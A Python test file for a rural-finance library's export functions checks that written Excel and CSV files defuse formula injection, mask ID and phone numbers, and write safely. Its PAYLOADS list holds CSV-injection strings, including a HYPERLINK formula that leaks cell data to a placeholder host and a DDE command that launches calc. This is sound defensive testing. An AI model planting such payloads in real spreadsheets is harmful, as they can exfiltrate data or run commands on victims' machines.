"""写出的文件安全：不带能执行的公式（OWASP CSV 注入）、个人信息默认遮蔽、空表能写、写入是原子的、
工作表名合乎 Excel 的规定、不经悬空的符号链接写、只读文件夹给中文错误（issue 11 第 2、3、8 条）。"""

import csv
import os
import warnings

import numpy as np
import openpyxl
import pandas as pd
import pytest

from ruralfin.datasets import export_excel, load_dataset, write_csv
from ruralfin.errors import RuralfinValueError, RuralfinWarning
from ruralfin.risk import Scorecard, WoEBinner
from ruralfin.segments import export_target_list

PAYLOADS = ['=HYPERLINK("http://x?leak="&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1"]


def _cells(path):
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(path):
    formulas = [(c.coordinate, c.value) for c in _cells(path) if c.data_type == "f"]
    assert not formulas, formulas


def _assert_defused(values):
    """每个攻击串都原样出现，只是前面多了一个单引号（xlsx 里的回车读回来是换行）。"""
    values = [v.replace("\n", "\r") if v.startswith("'\n") else v for v in values if isinstance(v, str)]
    for payload in PAYLOADS:
        assert "'" + payload in values, (payload, values)
        assert payload not in values, payload


def _payload_frame():
    return pd.DataFrame({"备注": PAYLOADS, "amount": [-1.5, 2.0, -3.0, 4.0, -5.0, 6.0, 7.0],
                         "count": np.arange(7) - 3, "=HEADER()": ["普通文字"] * 7})


# ---------------------------------------------------------------- 第 2 条：公式注入
@pytest.mark.parametrize("display", [True, False])
def test_export_excel_writes_no_live_formula(tmp_path, display):
    path = export_excel(_payload_frame(), tmp_path / "a.xlsx", display=display)
    _assert_no_formula(path)
    cells = _cells(path)
    _assert_defused([c.value for c in cells])
    assert "'=HEADER()" in [c.value for c in cells]  # 表头也是格子
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -1.5 in numbers and -3 in numbers and -5 in numbers  # 负数仍是数，不加引号


def test_export_target_list_writes_no_live_formula(tmp_path):
    t = pd.DataFrame({"rank": range(1, 8), "entity_id": range(7), "name": PAYLOADS,
                      "prospect_score": np.linspace(-3, 3, 7)})
    path = export_target_list(t, tmp_path / "清单.xlsx")
    _assert_no_formula(path)
    _assert_defused([c.value for c in _cells(path)])


def test_scorecard_to_excel_writes_no_live_formula(tmp_path):
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"渠道": rng.choice(["=cmd|' /C calc'!A0", "@SUM(1+1)", "柜面"], size=300),
                      "x": rng.normal(size=300)})
    y = (rng.random(300) < np.where(X["渠道"] == "柜面", 0.1, 0.4)).astype(int)
    card = Scorecard(WoEBinner(max_bins=3, min_bin_share=0.05)).fit(X, y)
    path = card.to_excel(tmp_path / "card.xlsx", X=X, y=y)
    _assert_no_formula(path)
    text = " ".join(str(c.value) for c in _cells(path) if isinstance(c.value, str))
    assert "@SUM(1+1)" in text  # 取值还在，只是不再是公式
    assert all(not str(c.value).startswith(("=", "@")) for c in _cells(path) if isinstance(c.value, str))


def test_write_csv_defuses_every_payload(tmp_path):
    path = write_csv(_payload_frame(), tmp_path / "a.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][-1] == "'=HEADER()"
    _assert_defused([r[0] for r in rows[1:]])
    assert [r[1] for r in rows[1:]][:3] == ["-1.5", "2.0", "-3.0"]  # 负数照写，Excel 里仍是数
    assert [r[2] for r in rows[1:]][0] == "-3"


def test_carriage_return_in_a_cell_does_not_split_the_csv_row(tmp_path):
    path = write_csv(pd.DataFrame({"a": ["x\ry", "\r=1+1"], "b": [1, 2]}), tmp_path / "a.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["a", "b"], ["x\ry", "1"], ["'\r=1+1", "2"]]


def test_plain_negative_number_text_is_left_alone(tmp_path):
    df = pd.DataFrame({"增长": ["-5", "-12.5%", "+3", "-1,200.50", "-", "- 说明"]})
    path = write_csv(df, tmp_path / "a.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        got = [r[0] for r in list(csv.reader(fh))[1:]]
    assert got == ["-5", "-12.5%", "+3", "-1,200.50", "'-", "'- 说明"]


def test_export_does_not_modify_the_input(tmp_path):
    df = _payload_frame().assign(operator_phone=["10012345678"] * 7)
    before = df.copy()
    export_excel(df, tmp_path / "a.xlsx")
    write_csv(df, tmp_path / "a.csv")
    pd.testing.assert_frame_equal(df, before)


# ---------------------------------------------------------------- 第 3 条：每条写出路径默认遮蔽
@pytest.fixture
def people():
    e = load_dataset("entities").head(4)
    return e[["entity_id", "operator_name", "operator_id_number", "operator_phone", "credit_code"]]


def _leaks(text, people):
    raw = [v for col in ["operator_id_number", "operator_phone"] for v in people[col].astype(str)]
    return [v for v in raw if v in text]


def test_export_excel_display_false_still_masks(tmp_path, people):
    path = export_excel(people, tmp_path / "a.xlsx", display=False)
    text = " ".join(str(c.value) for c in _cells(path))
    assert not _leaks(text, people)
    back = pd.read_excel(path, dtype=str)
    assert back.columns.tolist() == people.columns.tolist()  # display=False：英文列名不换
    assert back["operator_id_number"].str.contains(r"\*{8}").all()


def test_write_csv_masks_by_default_and_warns_when_told_not_to(tmp_path, people):
    path = write_csv(people, tmp_path / "a.csv")
    assert not _leaks(path.read_text(encoding="utf-8-sig"), people)
    renamed = people.rename(columns={"operator_id_number": "身份证号", "operator_phone": "联系电话"})
    path = write_csv(renamed, tmp_path / "b.csv")
    assert not _leaks(path.read_text(encoding="utf-8-sig"), people)
    with pytest.warns(RuralfinWarning, match="mask=False.*operator_id_number.*没有遮蔽"):
        raw = write_csv(people, tmp_path / "raw.csv", mask=False)
    assert len(_leaks(raw.read_text(encoding="utf-8-sig"), people)) == 8  # 明确要求时写出原始号码


def test_unknown_column_is_masked_by_its_content(tmp_path, people):
    df = pd.DataFrame({"col_a": people["operator_id_number"].to_numpy(), "col_b": ["13812345678"] * 4,
                       "col_c": ["6222021234567890128"] * 4, "col_d": people["credit_code"].to_numpy()})
    for path in (export_excel(df, tmp_path / "a.xlsx"), export_excel(df, tmp_path / "b.xlsx", display=False),
                 write_csv(df, tmp_path / "c.csv")):
        text = (" ".join(str(c.value) for c in _cells(path)) if path.suffix == ".xlsx"
                else path.read_text(encoding="utf-8-sig"))
        assert not _leaks(text, people) and "13812345678" not in text and "6222021234567890128" not in text
        assert not any(code in text for code in people["credit_code"].dropna().astype(str))


def test_index_identifiers_are_masked_on_export(tmp_path, people):
    by_id = people.set_index("operator_id_number")[["entity_id"]]
    path = write_csv(by_id.reset_index(), tmp_path / "a.csv")
    assert not _leaks(path.read_text(encoding="utf-8-sig"), people)


def test_export_target_list_masks_merged_columns(tmp_path, people):
    merged = people.merge(people[["entity_id", "operator_phone"]], on="entity_id")  # operator_phone_x / _y
    assert {"operator_phone_x", "operator_phone_y"} <= set(merged.columns)
    path = export_target_list(merged.assign(rank=range(1, 5)), tmp_path / "清单.xlsx")
    assert not _leaks(" ".join(str(c.value) for c in _cells(path)), people)


# ---------------------------------------------------------------- 第 8 条：空表与文件安全
def test_empty_tables_export_with_headers(tmp_path):
    e = load_dataset("entities").head(0)
    path = export_excel(e, tmp_path / "空.xlsx", table="entities")
    back = pd.read_excel(path)
    assert len(back) == 0 and "经营者身份证号" in back.columns
    path = export_excel({"甲": pd.DataFrame(), "乙": e}, tmp_path / "空2.xlsx")
    assert openpyxl.load_workbook(path).sheetnames == ["甲", "乙"]
    assert write_csv(e, tmp_path / "空.csv").read_text(encoding="utf-8-sig").startswith("entity_id,")
    t = export_target_list(pd.DataFrame({"rank": pd.Series([], dtype="int64")}), tmp_path / "清单.xlsx")
    assert pd.read_excel(t).columns.tolist() == ["名次"]


def test_failed_export_leaves_no_file_and_the_retry_works(tmp_path):
    bad = pd.DataFrame({"t": pd.to_datetime(["2024-01-01"]).tz_localize("Asia/Shanghai")})
    path = tmp_path / "报表.xlsx"
    with pytest.raises(RuralfinValueError, match="无法写入 Excel"):
        export_excel({"好": pd.DataFrame({"a": [1]}), "坏": bad}, path)
    assert os.listdir(tmp_path) == []  # 没有写了一半的文件，也没有留下临时文件
    export_excel(pd.DataFrame({"a": [1]}), path)
    assert pd.read_excel(path)["a"].tolist() == [1]


def test_failed_overwrite_keeps_the_old_file(tmp_path, monkeypatch):
    path = export_excel(pd.DataFrame({"a": [1]}), tmp_path / "a.xlsx")
    before = path.read_bytes()

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", disk_full)
    with pytest.raises(RuralfinValueError, match="No space left on device.*没有改动"):
        export_excel(pd.DataFrame({"a": [2]}), path, overwrite=True)
    assert path.read_bytes() == before and os.listdir(tmp_path) == ["a.xlsx"]


def test_sheet_names_follow_excel_rules(tmp_path):
    df = pd.DataFrame({"a": [1]})
    a = "各乡镇各客群贷款余额、不良贷款率与拨备覆盖率的按月汇总（2024年）"
    b = "各乡镇各客群贷款余额、不良贷款率与拨备覆盖率的按月汇总（2025年）"
    assert a[:31] == b[:31]
    with pytest.raises(RuralfinValueError) as info:
        export_excel({a: df, b: df}, tmp_path / "a.xlsx")
    assert a in str(info.value) and b in str(info.value) and "31 个字符" in str(info.value)
    for bad in ["2024/12", "[汇总]", "a:b", "a*b", "a?b", "a\\b"]:
        with pytest.raises(RuralfinValueError, match="不允许的字符"):
            export_excel({bad: df}, tmp_path / "a.xlsx")
    with pytest.raises(RuralfinValueError, match="不分大小写"):
        export_excel({"Summary": df, "summary": df}, tmp_path / "a.xlsx")
    assert not (tmp_path / "a.xlsx").exists()
    long = export_excel({a: df}, tmp_path / "ok.xlsx")  # 只有一个长名字：照旧截到 31 个字符
    assert openpyxl.load_workbook(long).sheetnames == [a[:31]]


def test_dangling_symlink_is_refused(tmp_path):
    target = tmp_path / "elsewhere" / "secret.xlsx"
    link = tmp_path / "report.xlsx"
    os.symlink(target, link)
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere" / "x.csv", tmp_path / "report.csv")
    with pytest.raises(RuralfinValueError, match="符号链接"):
        export_excel(pd.DataFrame({"a": [1]}), link)
    with pytest.raises(RuralfinValueError, match="符号链接"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "report.csv", overwrite=True)
    assert not target.exists() and not (tmp_path / "elsewhere" / "x.csv").exists()


def test_read_only_folder_gives_a_chinese_error(tmp_path, monkeypatch):
    import tempfile

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", denied)  # 以 root 运行时 chmod 拦不住，直接模拟
    with pytest.raises(RuralfinValueError, match="没有权限在文件夹"):
        export_excel(pd.DataFrame({"a": [1]}), tmp_path / "a.xlsx")
    with pytest.raises(RuralfinValueError, match="没有权限在文件夹"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "a.csv")


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="需要非 root 的 POSIX 系统")
def test_read_only_folder_for_real(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(RuralfinValueError, match="没有权限"):
            export_excel(pd.DataFrame({"a": [1]}), folder / "a.xlsx")
    finally:
        folder.chmod(0o755)


def test_never_overwrites_without_permission(tmp_path):
    path = tmp_path / "学员的文件.xlsx"
    path.write_bytes(b"mine")
    with pytest.raises(RuralfinValueError, match="已存在"):
        export_excel(pd.DataFrame({"a": [1]}), path)
    with pytest.raises(RuralfinValueError, match="已存在"):
        write_csv(pd.DataFrame({"a": [1]}), path.with_suffix(".csv").write_bytes(b"x") and path.with_suffix(".csv"))
    assert path.read_bytes() == b"mine"
    export_excel(pd.DataFrame({"a": [1]}), path, overwrite=True)
    assert pd.read_excel(path)["a"].tolist() == [1]
    assert sorted(os.listdir(tmp_path)) == ["学员的文件.csv", "学员的文件.xlsx"]


def test_written_files_have_normal_permissions(tmp_path):
    path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "a.csv")
    umask = os.umask(0)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


def test_warning_points_at_the_caller(tmp_path):
    e = load_dataset("entities").head(2)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        export_excel(e, tmp_path / "a.xlsx", mask=False)
    assert caught and caught[0].filename == __file__
